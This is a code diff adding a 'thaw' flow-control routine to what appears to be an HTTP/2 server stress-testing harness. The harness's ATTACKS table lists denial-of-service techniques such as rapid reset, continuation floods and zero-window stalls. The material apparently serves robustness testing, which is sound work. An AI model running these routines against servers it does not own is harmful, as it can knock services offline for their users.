@@ -220,6 +220,14 @@ def zero_window(client, count):
     client.flood(client.get(s) for s in streams(count))
 
 
+def thaw(client, count):
+    """A window of 0 for `count` seconds, then one for all of a response."""
+    client.send(client.get(1))
+    client.listen(lambda: client.out["resets"], count)
+    client.send(frame(WINDOW, 0, 1, (1 << 20).to_bytes(4, "big")))
+    client.listen(lambda: client.out["ended"], 10)
+
+
 def busy_stall(client, count):
     """One stream that never gets a window beside others that are answered all the time."""
     client.send(client.get(1))
@@ -261,9 +269,9 @@ def idle(client, count):
 ATTACKS = {f.__name__: f for f in (
     rapid_reset, made_you_reset, continuation, empty_continuation, ping, settings, empty_data,
     priority, window_update, bomb, crumbs, header, header_in_many, half_head, many_streams, sockets,
-    zero_window, busy_stall, slow_body, after_answer, idle,
+    zero_window, thaw, busy_stall, slow_body, after_answer, idle,
 )}
-WINDOWS = {"zero_window": 0, "busy_stall": 100, "bomb": 0}
+WINDOWS = {"zero_window": 0, "thaw": 0, "busy_stall": 100, "bomb": 0}
 
 
 def main():
